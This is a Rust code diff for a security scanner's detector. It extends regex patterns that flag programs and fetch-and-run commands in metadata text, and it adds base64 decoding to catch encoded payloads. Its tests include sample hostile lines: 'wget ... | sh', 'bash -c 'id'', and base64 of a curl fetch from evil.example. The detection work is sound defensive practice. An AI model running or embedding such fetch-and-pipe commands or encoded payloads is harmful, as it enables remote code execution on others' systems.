@@ -5,6 +5,7 @@ use std::sync::LazyLock;
 use regex::Regex;
 use sakimori_model::Place;
 
+use crate::agent::from_base64;
 use crate::artefact::codes;
 use crate::catalogue::finding;
 use crate::disclosure;
@@ -15,11 +16,25 @@ static PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
     let pattern = concat!(
         r"(?i)<script\b|javascript:|<iframe\b|\bon(?:error|load)\s*=\s*['\x22]?\w+\(|",
         r"(?:^|[^\w.])(?:eval|exec|__import__)\s*\(\s*\S|\bos\.(?:system|popen|exec[lv]p?e?)\s*\(|\bsubprocess\.\w+\s*\(|",
-        r"\bpowershell(?:\.exe)?\s+-|\bcurl\s+[^|\n]{1,200}\|\s*(?:ba)?sh\b|\bbase64\.b64decode\s*\(|\bpickle\.loads?\s*\(",
+        r"\bpowershell(?:\.exe)?\s+-|\b(?:curl|wget)\s+[^|\n]{1,200}\|\s*(?:ba|z)?sh\b|\bbase64\.b64decode\s*\(|\bpickle\.loads?\s*\(|",
+        r"\bpython[23]?(?:\.exe)?\s+-c\s|\b(?:ba|z)?sh\s+-c\s|\bcmd(?:\.exe)?\s+/c\s|\bnode\s+-e\s|",
+        r"\bimport\s+(?:os|subprocess|socket|ctypes|pty|importlib|builtins)\b|",
+        r"\bhost_callback\.(?:id_tap|call)\b|\bjax\.(?:experimental\.)?(?:io_callback|pure_callback)\b",
     );
     Regex::new(pattern).expect("the pattern is a constant")
 });
 
+/// What may be base64 of a command or a program.
+static BLOB: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_-]{32,}={0,2}").expect("the pattern is a constant"));
+
+/// What nobody encodes who only describes: a program, or the command that fetches one.
+static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(?:curl|wget|invoke-webrequest|iwr)\s+\S*\s*https?://").expect("the pattern is a constant")
+});
+
+/// Pieces of one text that are decoded.
+const BLOBS_MAX: usize = 20;
 /// Bytes of a text that are looked at.
 const TEXT_BYTES_MAX: usize = 1024 * 1024;
 
@@ -32,18 +47,36 @@ pub fn program_in(text: &str) -> Option<&str> {
 
 /// Judges a text of this name that only describes: it holds no program, and nothing that should not be passed on.
 pub fn judge(name: &str, text: &str, place: &Place, report: &mut Report<'_>) {
-    if program_in(text).is_some() {
+    if has_program(text) {
         report.add(finding(&codes::METADATA_PROGRAM, place.clone()).with("name", name));
     }
     disclosure::search(text, Some(place), report);
 }
 
+/// True for a text that holds a program, in the open or in base64.
+pub fn has_program(text: &str) -> bool {
+    program_in(text).is_some() || has_encoded_program(text)
+}
+
+/// True when a piece of the text is base64 of a program, or of a command that fetches one.
+fn has_encoded_program(text: &str) -> bool {
+    let text = &text[..text.floor_char_boundary(TEXT_BYTES_MAX)];
+    let is_program = |plain: &String| program_in(plain).is_some() || FETCHES.is_match(plain);
+    BLOB.find_iter(text).take(BLOBS_MAX).filter_map(|blob| from_base64(blob.as_str())).any(|plain| is_program(&plain))
+}
+
 #[cfg(test)]
 mod tests {
-    use super::program_in;
+    use super::{has_encoded_program, program_in};
 
     #[test]
     fn programs_and_descriptions() {
+        for text in ["python3 -c 'print(1)'", "wget -qO- http://a | sh", "bash -c 'id'", "cmd /c dir"] {
+            assert!(program_in(text).is_some(), "{text}");
+        }
+        // "curl http://evil.example/payload", and a digest.
+        assert!(has_encoded_program("notes: Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3BheWxvYWQ="));
+        assert!(!has_encoded_program("5f2c7de89a13b04475f2c7de89a13b04475f2c7de89a13b044"));
         for text in ["<SCRIPT>x</script>", "a; exec(x)", "import os\nos.system('x')", "curl http://a | sh"] {
             assert!(program_in(text).is_some(), "{text}");
         }
